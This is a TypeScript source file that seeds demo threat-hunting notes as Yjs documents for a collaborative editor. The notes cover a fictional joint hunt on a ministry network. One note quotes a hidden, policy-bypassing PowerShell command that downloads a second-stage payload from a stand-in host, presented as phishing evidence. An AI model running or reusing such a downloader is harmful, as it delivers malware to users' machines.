/**
 * The demo's hunt notes as Yjs documents in the shape the notes editor reads: TipTap's Collaboration
 * extension (y-prosemirror) keeps ProseMirror nodes in the XML fragment NOTE_FRAGMENT, one
 * Y.XmlElement per node named after its type (heading, paragraph, bulletList, taskList...), attributes
 * as the node's attrs, text in Y.XmlText. Values in the notes are documentation addresses and
 * example.* names, as everywhere in the demo.
 */
import * as Y from 'yjs';
import { NOTE_FRAGMENT } from '@huntroom/shared';

type Block = ['h', number, string] | ['p', string] | ['ul', string[]] | ['todo', [boolean, string][]] | ['code', string];

const text = (s: string): Y.XmlText => {
  const t = new Y.XmlText();
  t.insert(0, s);
  return t;
};

const element = (name: string, children: (Y.XmlElement | Y.XmlText)[], attrs: Record<string, unknown> = {}): Y.XmlElement => {
  const el = new Y.XmlElement(name);
  el.insert(0, children);
  // y-prosemirror stores attrs as they are (a heading's level is a number).
  for (const [k, v] of Object.entries(attrs)) el.setAttribute(k, v as string);
  return el;
};

const paragraph = (s: string) => element('paragraph', [text(s)]);

function node(b: Block): Y.XmlElement {
  switch (b[0]) {
    case 'h':
      return element('heading', [text(b[2])], { level: b[1] });
    case 'p':
      return paragraph(b[1]);
    case 'ul':
      return element(
        'bulletList',
        b[1].map((s) => element('listItem', [paragraph(s)])),
      );
    case 'todo':
      return element(
        'taskList',
        b[1].map(([checked, s]) => element('taskItem', [paragraph(s)], { checked })),
      );
    case 'code':
      return element('codeBlock', [text(b[1])]);
  }
}

/** The Yjs update of a note holding `blocks`. */
export function noteUpdate(blocks: Block[]): Uint8Array {
  const doc = new Y.Doc();
  doc.getXmlFragment(NOTE_FRAGMENT).insert(0, blocks.map(node));
  const update = Y.encodeStateAsUpdate(doc);
  doc.destroy();
  return update;
}

export interface DemoNote {
  title: string;
  team: 'US' | 'CA' | 'LV';
  tlp: 'CLEAR' | 'GREEN' | 'AMBER' | 'AMBER+STRICT' | 'RED';
  releasableTo: string[];
  blocks: Block[];
}

export const NOTES: DemoNote[] = [
  {
    title: 'Hunt plan: NORTHERN LIGHT',
    team: 'US',
    tlp: 'AMBER',
    releasableTo: [],
    blocks: [
      ['h', 1, 'Hunt plan'],
      ['p', 'Joint hunt on the partner ministry network (MINFIN-HQ and two regional sites) after a spear-phishing wave reported by CERT.LV.'],
      ['h', 2, 'Hypotheses'],
      [
        'ul',
        [
          'H1: initial access by macro-laden invoices from look-alike domains (T1566.001).',
          'H2: C2 over HTTPS to rented VPS in 198.51.100.0/24 and 203.0.113.0/24 (T1071.001).',
          'H3: credential theft on the domain controllers (T1003.001), then SMB lateral movement (T1021.002).',
        ],
      ],
      ['h', 2, 'Division of work'],
      [
        'ul',
        [
          'US: domain controllers and the server VLAN.',
          'CA: mail gateway and workstations of the finance department.',
          'LV: network sensors, proxy logs, liaison with the ministry.',
        ],
      ],
      ['h', 2, 'Checklist'],
      [
        'todo',
        [
          [true, 'Rules of engagement signed by the ministry CISO'],
          [true, 'Sensors deployed at both regional sites'],
          [false, 'Memory images of DC01 and DC02'],
          [false, 'Sweep all hosts for the dec0de… hashes'],
        ],
      ],
    ],
  },
  {
    title: 'Mail gateway: phishing wave',
    team: 'CA',
    tlp: 'AMBER',
    releasableTo: [],
    blocks: [
      ['h', 1, 'Mail gateway: phishing wave'],
      ['p', '41 messages between 06:10 and 07:45 UTC from hr@update-portal7.example.org and payroll12@example.net, subject "Invoice overdue".'],
      ['p', 'The attachment invoice_2026.lnk starts msupdate.ps1, which fetches a second stage:'],
      ['code', 'powershell -w hidden -ep bypass -c "iwr https://cdn-sync3.example.com/updates/patch.bin -OutFile $env:TEMP\\tmp4A2.dll"'],
      ['h', 2, 'Next'],
      [
        'todo',
        [
          [true, 'Block the senders at the gateway'],
          [false, 'List every recipient who opened the attachment'],
        ],
      ],
    ],
  },
  {
    title: 'CA only: source handling',
    team: 'CA',
    tlp: 'AMBER',
    releasableTo: ['CA'],
    blocks: [
      ['h', 1, 'Source handling (CA only)'],
      ['p', 'Releasable to CA only: the other teams do not see this note, its title, or that it exists.'],
      ['p', 'Two of the C2 addresses came from a partner feed that may not be shared further; they are marked CA-only on the board.'],
    ],
  },
  {
    title: 'Host nation briefing notes',
    team: 'LV',
    tlp: 'GREEN',
    releasableTo: [],
    blocks: [
      ['h', 1, 'Briefing with the ministry'],
      [
        'ul',
        ['Change freeze until the hunt ends; reboots only with the duty officer.', 'Backups of the finance share are verified daily.', 'Press line: "routine security review".'],
      ],
      ['p', 'Contact: duty officer via the CERT.LV hotline (see the rules of engagement).'],
    ],
  },
];
